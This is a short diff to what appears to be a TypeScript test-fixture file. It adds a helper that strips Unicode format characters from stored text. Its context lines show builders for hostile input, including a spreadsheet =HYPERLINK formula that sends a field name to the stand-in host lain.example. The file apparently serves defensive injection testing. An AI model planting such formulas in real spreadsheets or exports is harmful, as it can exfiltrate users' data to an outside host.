@@ -8,6 +8,8 @@ const PAYLOAD =
 
 /** Composes a hostile text that names its field. */
 export const hostile = (field: string) => `Zz ${field} ${PAYLOAD}`;
+/** The text as it is stored: without format characters. */
+export const stored = (text: string) => text.replace(/\p{Cf}/gu, '');
 /** Composes a spreadsheet formula that names its field. */
 export const formula = (field: string) => `=HYPERLINK("https://lain.example/?${field}";"${field}")`;
 
